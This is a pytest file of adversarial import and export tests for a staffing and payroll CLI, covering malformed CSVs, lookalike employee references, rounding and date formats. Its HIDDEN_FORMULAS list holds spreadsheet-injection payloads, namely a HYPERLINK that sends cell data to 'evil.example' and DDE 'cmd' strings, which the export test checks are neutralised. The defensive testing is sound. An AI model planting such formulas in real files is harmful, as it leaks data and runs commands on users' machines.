"""Adversarial cases for imports and exports, through the real `tempclock` command.

Each test is a file or a setting an agency really has that once went wrong.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import json

import pytest
from test_cli_connectors import one_line_error, tc

from tempclock.api.services import clocking, cost_codes, departments, workers
from tempclock.api.store.models import Department, Location, Worker


def test_a_payroll_folder_that_is_a_file_is_one_plain_error_line(tmp_path):
    in_the_way = tmp_path / "payroll"
    in_the_way.write_text("not a folder")
    tc(tmp_path, "accounts", "create", "Acme")
    result = tc(tmp_path, "connectors", "run", "payroll-csv", "--account", "1",
                "--set", f"output_dir={in_the_way}", ok=False)
    assert result.returncode == 1
    line = one_line_error(result)
    assert line.startswith(f"Error: Cannot write {in_the_way}/payroll_")
    assert f"{in_the_way} is a file, not a folder" in line
    assert "Error:" not in line[1:] and "FileExistsError" not in line


def test_a_payroll_folder_that_cannot_be_created_is_one_plain_error_line(tmp_path):
    tc(tmp_path, "accounts", "create", "Acme")
    result = tc(tmp_path, "connectors", "run", "payroll-csv", "--account", "1",
                "--set", "output_dir=/proc/1/payroll", ok=False)
    assert result.returncode == 1
    line = one_line_error(result)
    assert line.startswith("Error: Cannot write /proc/1/payroll/payroll_")
    assert "Error]" not in line and "Errno" not in line


def import_file(data_dir, csv_file, *settings, ok=True):
    pairs = [arg for setting in settings for arg in ("--set", setting)]
    return tc(data_dir, "connectors", "run", "ats-csv", "--account", "1",
              "--set", f"file={csv_file}", *pairs, "--json", ok=ok)


@pytest.mark.parametrize("above", [
    "\r\n\r\nWeekly placements, ACME Staffing Ltd\r\n",
    "sep=;\r\nExported 03/12/2026;;\r\n\r\n",
    "Candidates\r\nRun by: J. Smith\r\n",
])
def test_a_title_or_notes_above_the_header_are_passed_over(tmp_path, above):
    delimiter = ";" if above.startswith("sep=") else ","
    lines = [["Candidate ID", "Forename", "Surname"], ["00123", "Zoë", "Ćwik"],
             ["1.23E+05", "Ann", "Nowak"]]
    csv_file = tmp_path / "placements.csv"
    csv_file.write_bytes(codecs.BOM_UTF8 + (above + "".join(
        delimiter.join(cells) + "\r\n" for cells in lines)).encode())
    tc(tmp_path, "accounts", "create", "Acme")
    run = json.loads(import_file(tmp_path, csv_file).stdout)
    assert run["status"] == "succeeded" and run["counts"]["created"] == 2
    log = "\n".join(run["log"])
    assert "the lines above it are not imported" in log
    assert ": 00123 Zoë Ćwik created" in log and ": 1.23E+05 Ann Nowak created" in log


# --- which worker a row names ----------------------------------------------------------------

HEADER = "Employee Ref,First Name,Last Name\r\n"
DEACTIVATE = ("deactivate_missing=yes", "deactivate_despite_errors=yes")


def two_imports(tmp_path, first: bytes, second: bytes) -> dict:
    """Import `first`, then `second` deactivating the missing despite errors; the second run."""
    tc(tmp_path, "accounts", "create", "Acme")
    (tmp_path / "first.csv").write_bytes(first)
    (tmp_path / "second.csv").write_bytes(second)
    assert json.loads(import_file(tmp_path, tmp_path / "first.csv").stdout)["status"] == \
        "succeeded"
    return json.loads(import_file(tmp_path, tmp_path / "second.csv", *DEACTIVATE).stdout)


@pytest.mark.parametrize("written", ["AB1", "Ab1", "ＡＢ１", "ab\u200b1"])
def test_a_reference_written_differently_is_reported_never_a_new_worker_nor_deactivated(
        tmp_path, written):
    run = two_imports(tmp_path, (HEADER + "ab1,Ann,Nowak\r\nE2,Bob,Smith\r\n").encode(),
                      (HEADER + f"{written},Ann,Nowak\r\nE2,Bob,Smith\r\n").encode())
    assert "created" not in run["counts"] and "deactivated" not in run["counts"]
    [(line, reason)] = run["errors"]
    assert line == 2
    assert reason.startswith(f"employee reference {written!r} differs from worker 'ab1'")


@pytest.mark.parametrize("written", ["\ufeffE1", "\u200bE1\u200b", "\u00a0E1 ", "E1\u2060"])
def test_invisible_characters_around_a_reference_are_not_part_of_it(tmp_path, written):
    run = two_imports(tmp_path, (HEADER + "E1,Ann,Nowak\r\nE2,Bob,Smith\r\n").encode(),
                      (HEADER + f"{written},Ann,Nowak\r\nE2,Bob,Smith\r\n").encode())
    assert run["counts"] == {"unchanged": 2, "rows": 2}
    assert run["errors"] == []


def test_one_worker_on_two_rows_written_in_two_cases_is_reported_as_a_duplicate(tmp_path):
    tc(tmp_path, "accounts", "create", "Acme")
    csv_file = tmp_path / "twice.csv"
    csv_file.write_bytes((HEADER + "ab1,Ann,Nowak\r\nAB1,Ann,Nowak\r\n").encode())
    run = json.loads(import_file(tmp_path, csv_file).stdout)
    assert run["counts"]["created"] == 1
    assert run["errors"] == [[3, "employee reference 'AB1' already appears on line 2 as 'ab1'"]]


def test_a_reference_with_an_unreadable_byte_deactivates_nobody(tmp_path):
    first = (HEADER + "E1é,Ann,Nowak\r\nE2,Zoë,Smith\r\nE3,Cat,Jones\r\n").encode()
    second = (HEADER + "E2,Zoë,Smith\r\n").encode() + "E1é,Ann,Nowak\r\n".encode("cp1252")
    run = two_imports(tmp_path, first, second)
    assert [line for line, _ in run["errors"]] == [3]
    assert "deactivated" not in run["counts"]
    (skipped,) = run["needs_attention"]
    assert skipped.startswith("Deactivation skipped: the employee reference on line 3 cannot "
                              "be read")


# --- spreadsheet formulas behind invisible characters ----------------------------------------

HIDDEN_FORMULAS = ["\u2066=HYPERLINK(\"https://evil.example/?\"&A1,\"Payslip\")",
                   "\u00ad@SUM(1+1)*cmd|' /C calc'!A0", "\ufe62cmd|' /C calc'!A0",
                   "\u180e-2+3", "\ufe66HYPERLINK(A1)"]


def test_a_formula_behind_an_invisible_character_is_never_live_in_a_payroll_file(
        config, account, make_location, make_worker, tmp_path):
    dept = departments.create_department(account.id, departments.DepartmentCreate(
        name="Formula"))
    code = cost_codes.create_cost_code(account.id, cost_codes.CostCodeCreate(
        code=HIDDEN_FORMULAS[2], name="Formula"))
    yard = make_location(account.id, "Yard")
    named = make_worker(account.id, "Ann", "Nowak", employee_ref=HIDDEN_FORMULAS[4],
                        department_id=dept.id, location_id=yard.id)
    # Names are checked for invisible characters now; a store written before holds them.
    Department.update(name=HIDDEN_FORMULAS[1]).where(Department.id == dept.id).execute()
    Location.update(name=HIDDEN_FORMULAS[3]).where(Location.id == yard.id).execute()
    Worker.update(first_name=HIDDEN_FORMULAS[0]).where(Worker.id == named.id).execute()
    start = dt.datetime(2026, 3, 3, 6, tzinfo=dt.UTC)
    clocking.record_entry(account.id, named.id, yard.id, start, start + dt.timedelta(hours=4),
                          cost_code_id=code.id)
    tc(config.data_dir, "connectors", "run", "payroll-csv", "--account", str(account.id),
       "--set", "period=custom", "--set", "date_from=2026-03-02", "--set", "date_to=2026-03-08",
       "--set", f"output_dir={tmp_path / 'out'}")
    files = sorted((tmp_path / "out").glob("payroll_*.csv"))
    assert len(files) == 3
    cells = [cell for path in files
             for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row]
    hidden = [cell for cell in cells if cell.lstrip("'") in (*HIDDEN_FORMULAS,
                                                             f"{HIDDEN_FORMULAS[0]} Nowak")]
    assert len(hidden) == 8  # the daily line's five; ref and name in worker totals; cost code
    assert all(cell.startswith("'") for cell in hidden), hidden


# --- rounding --------------------------------------------------------------------------------


@pytest.mark.parametrize(("worked", "step", "mode", "hours"), [
    (dt.timedelta(hours=8, seconds=30), "0", "nearest", "8.02"),  # 480.5 min: a half rounds up
    (dt.timedelta(hours=8, minutes=1, seconds=30), "0", "nearest", "8.03"),
    (dt.timedelta(hours=7, minutes=59, seconds=45), "0", "down", "7.98"),  # down means down
    (dt.timedelta(hours=8, seconds=15), "0", "up", "8.02"),
    (dt.timedelta(hours=8, minutes=7, seconds=30), "15", "nearest", "8.25"),
])
def test_each_days_time_is_rounded_the_way_the_admin_chose(config, account, site, worker,
                                                           tmp_path, worked, step, mode, hours):
    start = dt.datetime(2026, 3, 3, 6, tzinfo=dt.UTC)
    clocking.record_entry(account.id, worker.id, site.id, start, start + worked)
    tc(config.data_dir, "connectors", "run", "payroll-csv", "--account", str(account.id),
       "--set", "period=custom", "--set", "date_from=2026-03-02", "--set", "date_to=2026-03-08",
       "--set", f"rounding_minutes={step}", "--set", f"rounding_mode={mode}",
       "--set", f"output_dir={tmp_path}")
    with (tmp_path / "payroll_2026-03-02_2026-03-08.csv").open(encoding="utf-8") as handle:
        (line,) = list(csv.DictReader(handle))
    assert line["hours"] == hours


def test_nul_padding_at_the_end_of_an_export_is_not_data(tmp_path):
    tc(tmp_path, "accounts", "create", "Acme")
    csv_file = tmp_path / "padded.csv"
    csv_file.write_bytes((HEADER + "E1,Ann,Nowak\r\n").encode() + b"\x00" * 4000)
    run = json.loads(import_file(tmp_path, csv_file).stdout)
    assert run["counts"] == {"created": 1, "rows": 1}


def test_a_nul_inside_an_export_fails_it_naming_the_line(tmp_path):
    tc(tmp_path, "accounts", "create", "Acme")
    csv_file = tmp_path / "nul.csv"
    csv_file.write_bytes((HEADER + "E1,Ann,Nowak\r\nE2,B\x00ob,Smith\r\n").encode())
    line = one_line_error(tc(tmp_path, "connectors", "run", "ats-csv", "--account", "1",
                             "--set", f"file={csv_file}", ok=False))
    assert line.startswith("Error: line 3 holds a NUL byte")


# --- dates as Excel and ATS exports write them -----------------------------------------------


@pytest.mark.parametrize("written", ["04/03/2027 00:00", "2027-03-04 00:00:00",
                                     "2027-03-04T00:00:00", "4-Mar-2027", "04-Mar-27",
                                     "4 March 2027", "Mar 4, 2027", "2027/03/04"])
def test_assignment_dates_in_excels_other_formats_are_read(tmp_path, written):
    tc(tmp_path, "accounts", "create", "Acme")
    csv_file = tmp_path / "dates.csv"
    csv_file.write_text(f'Employee Ref,First Name,Last Name,Start Date\nE1,Ann,Nowak,"{written}"\n',
                        encoding="utf-8")
    run = json.loads(import_file(tmp_path, csv_file, "date_format=DD/MM/YYYY").stdout)
    assert run["errors"] == [] and run["counts"]["created"] == 1
    csv_file.write_text("Employee Ref,First Name,Last Name,Start Date\nE1,Ann,Nowak,2027-03-04\n",
                        encoding="utf-8")
    again = json.loads(import_file(tmp_path, csv_file).stdout)
    assert again["counts"] == {"unchanged": 1, "rows": 1}  # the same date as read before


@pytest.mark.parametrize(("written", "stored"), [("en-GB", "en"), ("PL_pl", "pl"),
                                                 ("English (UK)", "en"), ("ro-RO", "ro"),
                                                 ("LT", "lt"), ("Polski", "pl")])
def test_a_language_written_with_its_region_is_read(tmp_path, written, stored):
    tc(tmp_path, "accounts", "create", "Acme")
    csv_file = tmp_path / "languages.csv"
    csv_file.write_text(f"Employee Ref,First Name,Last Name,Language\nE1,Ann,Nowak,{written}\n",
                        encoding="utf-8")
    run = json.loads(import_file(tmp_path, csv_file).stdout)
    assert run["errors"] == [] and run["counts"]["created"] == 1
    csv_file.write_text(f"Employee Ref,First Name,Last Name,Language\nE1,Ann,Nowak,{stored}\n",
                        encoding="utf-8")
    assert json.loads(import_file(tmp_path, csv_file).stdout)["counts"] == {"unchanged": 1,
                                                                            "rows": 1}


def test_site_and_department_names_in_another_spacing_are_the_same_ones(config, account,
                                                                        make_location):
    site = make_location(account.id, "Leeds DC")
    csv_file = config.data_dir.parent / "spacing.csv"
    csv_file.write_text("Employee Ref,First Name,Last Name,Site,Department\n"
                        "E1,Ann,Nowak,leeds\u00a0 dc,Night Shift\n"
                        "E2,Bob,Smith, LEEDS DC ,night  shift\n", encoding="utf-8")
    run = json.loads(tc(config.data_dir, "connectors", "run", "ats-csv", "--account",
                        str(account.id), "--set", f"file={csv_file}", "--json").stdout)
    assert run["errors"] == [] and run["counts"]["created"] == 2
    assert [d.name for d in departments.list_departments(account.id).data] == ["Night Shift"]
    for ref in ("E1", "E2"):
        worker = workers.find_worker_by_ref(account.id, ref)
        assert (worker.location_id, worker.department) == (site.id, "Night Shift")
